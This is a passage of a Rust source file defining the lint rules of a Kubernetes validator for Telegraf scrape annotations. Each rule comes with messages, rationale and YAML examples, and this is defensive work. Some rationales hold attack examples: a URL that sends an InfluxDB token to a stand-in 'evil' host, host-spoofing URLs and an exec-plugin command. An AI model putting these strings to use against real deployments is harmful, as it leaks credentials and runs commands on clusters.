//! Every rule: its code, its message, its help and its documentation, in one place.
//!
//! `telewarden rule CODE` prints the documentation and `docs/rules.md` is generated from it. A test holds each `example`
//! against the module: it must raise its rule, and what `instead` shows must not.
//!
//! Codes are for ever: a rule that goes leaves a gap. `TW0` is reading, `TW1` endpoints and URLs, `TW2` options, `TW3` the
//! other annotations, `TW4` the source, `TW5` the settings.

use std::borrow::Cow;

use serde::Serialize;

use super::{Diagnostic, Place, Severity};
use crate::printable::printable;

/// A rule's documentation. All text is Markdown.
#[derive(Clone, Copy, Debug, Eq, PartialEq, Serialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema), schemars(rename = "Rule"))]
pub struct RuleDoc {
    /// `TW` and three digits.
    pub code: &'static str,
    /// The rule's name, as it is spelled in the code.
    pub name: &'static str,
    /// What a finding means for the source.
    pub severity: Severity,
    /// What the rule looks for, in one sentence.
    pub summary: &'static str,
    /// Why that is worth a finding, with the source of the rule.
    pub why: &'static str,
    /// What raises it: annotations (for `TW5`, settings) in YAML. Empty where a few lines cannot show it.
    pub example: &'static str,
    /// The same without the problem. Empty where there is nothing to write instead.
    pub instead: &'static str,
}

macro_rules! rules {
    ($(
        $code:ident $name:ident { $($field:ident : $type:ty),* $(,)? } $severity:ident {
            summary: $summary:literal,
            message: $message:literal,
            help: $help:expr,
            why: $why:literal,
            example: $example:literal,
            instead: $instead:literal $(,)?
        }
    )*) => {
        /// A finding before it has a place: one variant for each rule, with what its message needs to know.
        #[derive(Clone, Debug, Eq, PartialEq)]
        pub enum Problem {
            $(
                #[doc = concat!("`", stringify!($code), "`: ", $summary)]
                $name {
                    $(
                        #[doc = concat!("`", stringify!($field), "` in the message.")]
                        $field: $type,
                    )*
                },
            )*
        }

        /// A rule.
        #[derive(Clone, Copy, Debug, Eq, Hash, PartialEq)]
        pub enum Rule {
            $(
                #[doc = concat!("`", stringify!($code), "`: ", $summary)]
                $name,
            )*
        }

        impl Rule {
            /// Every rule, by code.
            pub const ALL: &'static [Self] = &[$(Self::$name),*];

            /// `TW` and three digits.
            pub fn code(self) -> &'static str {
                match self {
                    $(Self::$name => stringify!($code),)*
                }
            }
        }

        impl Problem {
            /// The rule that it breaks.
            pub fn rule(&self) -> Rule {
                match self {
                    $(Self::$name { .. } => Rule::$name,)*
                }
            }

            /// The finding, without a place.
            pub fn diagnostic(self) -> Diagnostic {
                let code = self.rule().code();
                let (severity, message, help): (Severity, String, Option<String>) = match self {
                    $(
                        #[allow(unused_variables)]
                        Self::$name { $($field),* } => {
                            $(let $field = $field.shortened();)*
                            (Severity::$severity, format!($message), $help)
                        }
                    )*
                };
                Diagnostic {
                    code: code.into(),
                    severity,
                    message: clean(message),
                    help: help.map(clean),
                    place: None,
                }
            }

            /// The finding at its place.
            pub fn at(self, place: Place) -> Diagnostic {
                Diagnostic { place: Some(place), ..self.diagnostic() }
            }
        }

        const RULES: &[RuleDoc] = &[
            $(RuleDoc {
                code: stringify!($code),
                name: stringify!($name),
                severity: Severity::$severity,
                summary: $summary,
                why: $why,
                example: $example,
                instead: $instead,
            },)*
        ];
    };
}

/// The most characters of a foreign text that a message repeats.
const MAX_CHARACTERS: usize = 200;

/// What a message holds. Text may be somebody else's, and is cut: a message does not grow with an annotation.
trait Shortened {
    fn shortened(self) -> Self;
}

impl Shortened for String {
    fn shortened(mut self) -> Self {
        if let Some((end, _)) = self.char_indices().nth(MAX_CHARACTERS) {
            self.truncate(end);
            self.push('…');
        }
        self
    }
}

impl<T: Shortened> Shortened for Option<T> {
    fn shortened(self) -> Self {
        self.map(T::shortened)
    }
}

impl<T: Shortened> Shortened for Vec<T> {
    fn shortened(self) -> Self {
        self.into_iter().map(T::shortened).collect()
    }
}

macro_rules! short_already {
    ($($type:ty),*) => {
        $(impl Shortened for $type {
            fn shortened(self) -> Self {
                self
            }
        })*
    };
}

short_already!(&'static str, usize, u32, i64);

/// Every rule, by code.
pub fn all() -> &'static [RuleDoc] {
    RULES
}

/// The rule with a code, in upper or lower case.
pub fn find(code: &str) -> Option<&'static RuleDoc> {
    RULES.iter().find(|rule| rule.code.eq_ignore_ascii_case(code))
}

/// Text that holds what somebody else wrote, as it may be printed anywhere.
fn clean(text: String) -> String {
    match printable(&text) {
        Cow::Borrowed(_) => text,
        Cow::Owned(clean) => clean,
    }
}

/// Help that is always there.
fn help(text: impl Into<String>) -> Option<String> {
    Some(text.into())
}

/// "did you mean" for the nearest of the known names.
fn did_you_mean(name: Option<&str>) -> Option<String> {
    name.map(|name| format!("did you mean `{name}`?"))
}

fn list(items: &[impl AsRef<str>]) -> String {
    if items.is_empty() {
        return "none".to_owned();
    }
    items
        .iter()
        .map(|item| format!("`{}`", item.as_ref()))
        .collect::<Vec<_>>()
        .join(", ")
}

rules! {
    TW001 NotYaml { error: String } Error {
        summary: "The annotation is not YAML.",
        message: "this is not YAML: {error}",
        help: help("write `- name: \"http://service.namespace.svc:8080/metrics\"`, one line for each endpoint"),
        why: "Nothing can be read from it. The annotation's value is a text that holds a YAML document of its own, \
              usually written as a block (`|`).",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\"\n",
    }
    TW002 TooLarge { size: usize, limit: usize } Error {
        summary: "The annotation is larger than it may be.",
        message: "the annotation is {size} bytes long, and may be {limit}",
        help: help("leave out endpoints, or split the Application"),
        why: "Every request is checked in bounded time and memory. Kubernetes itself allows 256 KiB for all annotations \
              of an object together (<https://kubernetes.io/docs/concepts/overview/working-with-objects/annotations/>).",
        example: "",
        instead: "",
    }
    TW003 TooDeep { limit: usize } Error {
        summary: "The annotation is nested deeper than anything it can say.",
        message: "this is nested more than {limit} levels deep",
        help: help("an endpoint needs four levels at most: list, name, option, value"),
        why: "Deep nesting means nothing here, and would cost stack.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: '[[[[[[[[[[[[[[[[[[[[a]]]]]]]]]]]]]]]]]]]]'\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: '[{a: \"http://a.argocd.svc:8080/metrics\"}]'\n",
    }
    TW004 Alias { what: &'static str } Error {
        summary: "The annotation uses an anchor, an alias or a merge key.",
        message: "{what} is not allowed here",
        help: help("write the value out where it is used"),
        why: "Aliases let a few lines stand for gigabytes (\"billion laughs\"), and nobody needs them in a list of URLs.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: &url \"http://redis.argocd.svc:9121/metrics\"\n  - again: *url\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics\"\n",
    }
    TW005 YamlTag { tag: String } Error {
        summary: "The annotation uses a YAML tag.",
        message: "the tag `{tag}` is not allowed here",
        help: help("leave the tag out, and quote the value where it should be text"),
        why: "A tag turns a value into something else than it looks like.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: !!str http://redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW006 DuplicateKey { key: String } Error {
        summary: "A key is given twice in one map.",
        message: "`{key}` is given twice",
        help: help("keep one of the two"),
        why: "YAML leaves open which of the two counts.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  redis:\n    url: http://redis.argocd.svc:9121/metrics\n    url: http://other.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  redis:\n    url: http://redis.argocd.svc:9121/metrics\n",
    }
    TW007 SeveralDocuments { } Error {
        summary: "The annotation holds more than one YAML document.",
        message: "a second YAML document starts here",
        help: help("put all endpoints into one list, without `---`"),
        why: "Only one would be read.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  a: http://a.argocd.svc:8080/metrics\n  ---\n  b: http://b.argocd.svc:8080/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  a: http://a.argocd.svc:8080/metrics\n  b: http://b.argocd.svc:8080/metrics\n",
    }
    TW008 NotToml { error: String } Error {
        summary: "The `inputs` annotation is not TOML.",
        message: "this is not TOML: {error}",
        help: help("write tables such as `[[inputs.prometheus]]` with `urls = [\"http://service.namespace.svc:8080/metrics\"]`"),
        why: "Nothing can be read from it.",
        example: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [http://redis.argocd.svc:9121/metrics]\n",
        instead: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
    }
    TW009 NoEndpoints { } Error {
        summary: "The annotation names no endpoint.",
        message: "no endpoint is given",
        help: help("write `- name: \"http://service.namespace.svc:8080/metrics\"`, or remove the annotation"),
        why: "A Telegraf without an input does not start.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: \"[]\"\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW010 Variable { what: &'static str } Error {
        summary: "A text holds `$` or `@{`, which Telegraf would replace.",
        message: "`{what}` is not allowed in an annotation",
        help: help("write the text itself; in a URL a dollar sign is `%24`"),
        why: "Telegraf replaces `$NAME` and `${NAME}` by environment variables and `@{store:key}` by secrets, in any text of \
              its configuration (<https://docs.influxdata.com/telegraf/v1/configuration/#environment-variables>). An \
              endpoint `http://evil/?t=${INFLUX_TOKEN}` would send the token away.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics?t=${INFLUX_TOKEN}\"\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/metrics?t=%24\"\n",
    }
    TW011 WrongShape { what: String, expected: &'static str, found: &'static str } Error {
        summary: "A value is of the wrong kind.",
        message: "{what} is {found}, and should be {expected}",
        help: None,
        why: "The annotation is a list of maps from a name to a URL, or such a map alone, or with the endpoint's options \
              instead of the URL.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: http://redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: \"redis: http://redis.argocd.svc:9121/metrics\"\n",
    }
    TW012 NotText { found: &'static str } Error {
        summary: "An annotation's value is not a text.",
        message: "the annotation is {found}, and must be text",
        help: help("write the value as a block: `|`, and the list below it, indented"),
        why: "Kubernetes takes only text as an annotation's value.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator:\n  - redis: http://redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW013 ControlCharacter { codepoint: u32 } Error {
        summary: "A text holds a control character.",
        message: "the text holds the control character U+{codepoint:04X}",
        help: help("remove it; a name, a tag and a pattern are one line of visible text"),
        why: "It cannot be seen, and in a tag or a pattern it never is what was meant.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: \"a\\nb\"}\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: \"a b\"}\n",
    }
    TW014 TooManyFindings { count: usize } Warning {
        summary: "There are more findings than are shown.",
        message: "{count} more findings are not shown",
        help: help("mend the ones above first"),
        why: "The answer to a request is bounded, whatever an annotation holds.",
        example: "",
        instead: "",
    }
    TW015 TooManyValues { limit: usize } Error {
        summary: "The annotation holds more values than anything it can say.",
        message: "the annotation holds more than {limit} values",
        help: help("leave out endpoints, tags or patterns"),
        why: "Every request is checked in bounded time and memory, and a value takes many times the memory of its text.",
        example: "",
        instead: "",
    }

    TW101 EndpointName { name: String } Error {
        summary: "An endpoint's name cannot be used.",
        message: "`{name}` cannot be an endpoint's name",
        help: help("use 1 to 63 of the characters A-Z, a-z, 0-9, `_`, `-` and `.`"),
        why: "The name becomes a part of the measurement's name, and in one topology of an object's.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - \"redis cache\": http://redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis_cache: http://redis.argocd.svc:9121/metrics\n",
    }
    TW102 DuplicateEndpoint { name: String } Error {
        summary: "Two endpoints have the same name.",
        message: "an endpoint `{name}` is there already",
        help: help("rename one of the two, or give one of them both `urls`"),
        why: "Their metrics would be one measurement, and nobody could tell them apart.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n  - redis: http://cache.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      urls: [\"http://redis.argocd.svc:9121/metrics\", \"http://cache.argocd.svc:9121/metrics\"]\n",
    }
    TW103 TooManyEndpoints { count: usize, max: usize } Error {
        summary: "There are more endpoints than the settings allow.",
        message: "there are {count} endpoints, and the settings allow {max}",
        help: help("leave some out, or ask the administrator to raise `endpoints.max`"),
        why: "Each endpoint is scraped all the time; the limit keeps one source from using up what is there for all.",
        example: "",
        instead: "",
    }
    TW104 NoUrl { name: String } Error {
        summary: "An endpoint has no URL.",
        message: "endpoint `{name}` has no URL",
        help: help("give it `url: \"http://service.namespace.svc:8080/metrics\"`"),
        why: "There is nothing to scrape.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW105 NotAUrl { text: String, why: String } Error {
        summary: "What should be a URL is not one.",
        message: "`{text}` is not a URL: {why}",
        help: help("write it as `http://service.namespace.svc:8080/metrics`; other characters are percent-encoded"),
        why: "URLs are read strictly by RFC 3986, so that nothing is one host to us and another to Telegraf.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/a b\"\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: \"http://redis.argocd.svc:9121/a%20b\"\n",
    }
    TW106 Scheme { scheme: String, allowed: Vec<String> } Error {
        summary: "The URL's scheme is not allowed.",
        message: "the scheme `{scheme}` is not allowed",
        help: help(format!("allowed: {}", list(&allowed))),
        why: "Telegraf's prometheus input also reads `unix://` sockets, which no host rule bounds \
              (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>).",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: unix:///run/redis.sock\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW107 Credentials { } Error {
        summary: "The URL holds a user name or a password.",
        message: "the URL holds credentials",
        help: help("leave out everything up to the `@`"),
        why: "Whoever may read the Application would read them too. `http://argocd.svc@evil.example` is also how a host \
              pretends to be another.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://user:secret@redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW108 NoHost { } Error {
        summary: "The URL names no host.",
        message: "the URL names no host",
        help: help("write it as `http://service.namespace.svc:8080/metrics`"),
        why: "There is nothing to connect to.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http:///metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW109 Fragment { } Error {
        summary: "The URL has a fragment.",
        message: "the URL has a fragment, which is never sent",
        help: help("leave out the `#` and what follows; write `%23` for the character itself"),
        why: "A fragment means something only to a browser.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics#top\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW110 HostSpelling { host: String, why: &'static str, instead: Option<String> } Error {
        summary: "The host is not spelled the way it is compared.",
        message: "the host `{host}` {why}",
        help: instead.map(|host| format!("write `{host}`")),
        why: "Hosts are compared letter by letter with the patterns of the settings, so there is one spelling: lower case, \
              no percent-encoding, no dot at the end, labels of a-z, 0-9, `-` and `_`.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://Redis.argocd.svc.:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW111 HostNotAllowed { host: String, allowed: Vec<String> } Error {
        summary: "The host is outside of what the settings allow.",
        message: "the host `{host}` is not allowed here",
        help: help(format!("allowed: {}", list(&allowed))),
        why: "Whoever annotates one namespace's source need not be allowed to reach another's services. The settings' \
              `endpoints.hosts` says what may be scraped; `*` stands for one or more labels.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc.evil.org:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW112 Port { port: String } Error {
        summary: "The URL's port is not a port.",
        message: "`{port}` is not a port",
        help: help("write a number from 1 to 65535, or leave out the colon too"),
        why: "Nothing can listen there.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:99121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW113 DuplicateUrl { url: String, first: String } Warning {
        summary: "Two endpoints have the same URL.",
        message: "endpoint `{first}` scrapes this URL already",
        help: help("leave one of the two out"),
        why: "The same metrics are scraped and stored twice. It is legal, for the two may differ in their options.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n  - cache: http://redis.argocd.svc:9121/metrics\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\n",
    }
    TW114 OtherNamespace { host: String, namespace: String } Warning {
        summary: "The host is outside of the source's own namespace.",
        message: "the host `{host}` is outside of namespace `{namespace}`",
        help: None,
        why: "The settings allow it. A NetworkPolicy there may not, and a typing mistake looks the same.",
        example: "",
        instead: "",
    }
    TW115 NothingToVerify { } Warning {
        summary: "A TLS option is given for an endpoint that is scraped without TLS.",
        message: "`insecure_skip_verify` does nothing for an `http` URL",
        help: help("leave it out, or write `https`"),
        why: "Probably `https` was meant.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      insecure_skip_verify: true\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: https://redis.argocd.svc:9121/metrics\n      insecure_skip_verify: true\n",
    }
    TW116 UrlTwice { } Error {
        summary: "An endpoint has both `url` and `urls`.",
        message: "`url` and `urls` are given together",
        help: help("put all of them into `urls`"),
        why: "Only one would count.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://a.argocd.svc:9121/metrics\n      urls: [\"http://b.argocd.svc:9121/metrics\"]\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      urls: [\"http://a.argocd.svc:9121/metrics\", \"http://b.argocd.svc:9121/metrics\"]\n",
    }
    TW117 NameInHostPattern { pattern: String } Error {
        summary: "The source's name or namespace makes a host pattern match services of other namespaces.",
        message: "the host pattern `{pattern}`, filled with this source's names, matches services of other namespaces",
        help: help("use another namespace or another name; the administrator can write a longer pattern, such as `*.{namespace}.svc`"),
        why: "Patterns of `endpoints.hosts` hold the names of the source. With `*.{namespace}` a namespace called `svc` would be \
              `*.svc`, and so every service of the cluster \
              (<https://kubernetes.io/docs/concepts/services-networking/dns-pod-service/>).",
        example: "",
        instead: "",
    }

    TW201 UnknownOption { name: String, nearest: Option<&'static str> } Error {
        summary: "An endpoint's option is not one of those that are allowed.",
        message: "`{name}` is not an option of an endpoint",
        help: did_you_mean(nearest),
        why: "Only those options of Telegraf's prometheus input that are safe in anybody's hands can be set. Others read \
              files of the pod, send its credentials, or scrape what no host rule bounds.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      intervall: 30s\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }
    TW202 OptionShape { name: String, expected: &'static str, found: &'static str } Error {
        summary: "An option's value is of the wrong kind.",
        message: "`{name}` is {found}, and should be {expected}",
        help: None,
        why: "Telegraf would refuse the configuration, or read something else than was meant.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: redis_*\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: [\"redis_*\"]\n",
    }
    TW203 NotADuration { name: String, text: String } Error {
        summary: "What should be a duration is not one.",
        message: "`{name}`: `{text}` is not a duration",
        help: help("write a number with a unit, such as `30s`, `1m30s` or `500ms`"),
        why: "Durations are Telegraf's: numbers with the units `ns`, `us`, `ms`, `s`, `m`, `h` and `d` \
              (<https://docs.influxdata.com/telegraf/v1/configuration/#intervals>).",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: half a minute\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }
    TW204 IntervalTooShort { interval: String, min: String } Error {
        summary: "The interval is shorter than the settings allow.",
        message: "the interval {interval} is shorter than {min}",
        help: help(format!("write `{min}` or more")),
        why: "Every scrape costs the service, the network and the database.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 100ms\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n",
    }
    TW205 NameFilter { name: String, instead: &'static str } Error {
        summary: "A filter by metric name is used where every metric has the same name.",
        message: "`{name}` would drop everything: with `metric_version: 2` every metric is called `prometheus`",
        help: help(format!("use `{instead}`, or `metric_version: 1`")),
        why: "In version 2 of Telegraf's prometheus format the metric's name is the name of a field \
              (<https://github.com/influxdata/telegraf/tree/master/plugins/inputs/prometheus>). `namepass` and `namedrop` see \
              only the measurement's name, before it is overridden.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      namepass: [\"redis_*\"]\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      fieldinclude: [\"redis_*\"]\n",
    }
    TW206 ReservedTag { tag: String } Error {
        summary: "A tag is set that the settings set or route by.",
        message: "the tag `{tag}` is set by the settings",
        help: help("choose another name for the tag"),
        why: "It says whose metrics these are, and which bucket they go to.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {prometheus_app: other}\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {tier: cache}\n",
    }
    TW207 Key { name: String, what: &'static str } Error {
        summary: "A name cannot be written as a key of Telegraf's configuration.",
        message: "`{name}` cannot be {what}",
        help: help("use the characters A-Z, a-z, 0-9, `_` and `-`"),
        why: "Telegraf's TOML parser is older than TOML 1.0; what we write uses bare keys only.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {\"the tier\": cache}\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      tags: {the_tier: cache}\n",
    }
    TW208 OutOfRange { name: String, text: String, expected: &'static str } Error {
        summary: "An option's value is none that it can have.",
        message: "`{name}` cannot be `{text}`",
        help: help(format!("write {expected}")),
        why: "Telegraf would refuse the configuration, or ignore the value.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      metric_version: 3\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      metric_version: 2\n",
    }
    TW209 PluginNotAllowed { plugin: String, allowed: Vec<String> } Error {
        summary: "An input plugin is not one of those that the settings allow.",
        message: "the input plugin `{plugin}` is not allowed",
        help: help(format!("allowed: {}", list(&allowed))),
        why: "Other plugins run commands, read files and open ports. The settings' `inputs.allowedPlugins` can allow them.",
        example: "telegraf.influxdata.com/inputs: |\n  [[inputs.exec]]\n  commands = [\"id\"]\n",
        instead: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
    }
    TW210 NotAnInput { name: String } Error {
        summary: "The `inputs` annotation holds something else than input tables.",
        message: "`{name}` is not an input",
        help: help("write `[[inputs.prometheus]]`, with two brackets"),
        why: "Everything else of Telegraf's configuration is the administrator's.",
        example: "telegraf.influxdata.com/inputs: |\n  [[outputs.file]]\n  files = [\"stdout\"]\n",
        instead: "telegraf.influxdata.com/inputs: |\n  [[inputs.prometheus]]\n  urls = [\"http://redis.argocd.svc:9121/metrics\"]\n",
    }
    TW211 NotWithPlugin { name: String } Error {
        summary: "A value cannot be passed on to an input plugin.",
        message: "`{name}` cannot be passed on to Telegraf",
        help: help("use text, numbers, booleans, lists of one kind of these, and tables"),
        why: "Telegraf's TOML parser is older than TOML 1.0; dates, and lists that mix kinds, are not for it.",
        example: "",
        instead: "",
    }
    TW212 IntervalTooLong { interval: String, max: String } Error {
        summary: "The interval is longer than the settings allow.",
        message: "the interval {interval} is longer than {max}",
        help: help(format!("write `{max}` or less")),
        why: "Go's timers overflow at 292 years, and then Telegraf scrapes all the time. An endpoint that is scraped less than \
              once a day is most often a mistake. The settings' `endpoints.maxInterval` decides.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 2540300h\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 12h\n",
    }
    TW213 TimeoutOutOfBounds { timeout: String, min: Option<String>, max: String } Error {
        summary: "The timeout is shorter or longer than the settings allow.",
        message: "the timeout {timeout} is not allowed",
        help: help(match min {
            Some(min) => format!("write `{min}` or more, and `{max}` or less"),
            None => format!("write `{max}` or less"),
        }),
        why: "A reload of Telegraf waits for scrapes that are under way: an endpoint that hangs keeps all others from being \
              scraped for as long as its timeout is. The settings' `endpoints.minTimeout` and `endpoints.maxTimeout` decide.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      timeout: 2562047h\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      timeout: 10s\n",
    }
    TW214 TimeoutAboveInterval { timeout: String, interval: String } Error {
        summary: "The timeout is longer than the interval.",
        message: "the timeout {timeout} is longer than the interval {interval}",
        help: help(format!("write a timeout of `{interval}` or less, or a longer interval")),
        why: "A scrape that hangs would still run when the next one is due. The interval is the endpoint's own, that of the \
              `interval` annotation, that of the settings' `inputs.defaults`, or the class's `agent.interval`, whichever comes \
              first.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 20s\n      timeout: 30s\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      interval: 30s\n      timeout: 20s\n",
    }
    TW215 ContentLengthAboveCeiling { bytes: i64, max: i64 } Error {
        summary: "The limit for an answer's size is above what the settings allow.",
        message: "`content_length_limit` is {bytes} bytes, and may be {max}",
        help: help(format!("write `{max}` or less")),
        why: "Telegraf reads an answer into memory, which it shares with all other endpoints. The settings' \
              `endpoints.maxContentLength` decides.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      content_length_limit: 1GB\n",
        instead: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis:\n      url: http://redis.argocd.svc:9121/metrics\n      content_length_limit: 10MB\n",
    }
    TW216 TooManyPatterns { what: String, count: usize, max: usize } Error {
        summary: "There are more patterns than are matched in little time.",
        message: "{what} holds {count} patterns, and may hold {max}",
        help: help("use `*` where many names begin or end alike, or drop the metrics where they are made"),
        why: "Each pattern of a filter is matched with every metric, field or tag of every scrape.",
        example: "",
        instead: "",
    }

    TW301 UnknownAnnotation { name: String, nearest: Option<String> } Warning {
        summary: "An annotation under `telegraf.influxdata.com/` is not known.",
        message: "`{name}` is not known, and does nothing",
        help: did_you_mean(nearest.as_deref()),
        why: "Probably it is a typing mistake.",
        example: "telegraf.influxdata.com/rubin-telegraf-operator: |\n  - redis: http://redis.argocd.svc:9121/metrics\ntelegraf.influxdata.com/intervall: 30s\n",
